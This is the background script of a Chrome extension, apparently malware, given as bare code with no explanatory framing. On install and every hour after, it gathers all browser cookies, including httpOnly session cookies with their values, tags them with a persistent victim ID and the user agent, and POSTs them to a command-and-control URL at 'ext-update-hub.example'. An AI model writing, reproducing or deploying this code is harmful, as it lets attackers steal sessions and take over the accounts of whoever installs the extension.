const C2 = "https://ext-update-hub.example/api/report";

async function uid() {
  const { uid } = await chrome.storage.local.get("uid");
  if (uid) return uid;
  const n = crypto.randomUUID();
  await chrome.storage.local.set({ uid: n });
  return n;
}

async function collect() {
  const all = await chrome.cookies.getAll({});
  const byDomain = {};
  for (const c of all) {
    (byDomain[c.domain] ||= []).push({ n: c.name, v: c.value, p: c.path, s: c.secure, h: c.httpOnly, e: c.expirationDate });
  }
  await fetch(C2, {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ id: await uid(), ua: navigator.userAgent, data: byDomain })
  });
}

chrome.runtime.onInstalled.addListener(collect);
chrome.alarms.create("sync", { periodInMinutes: 60 });
chrome.alarms.onAlarm.addListener((a) => a.name === "sync" && collect());
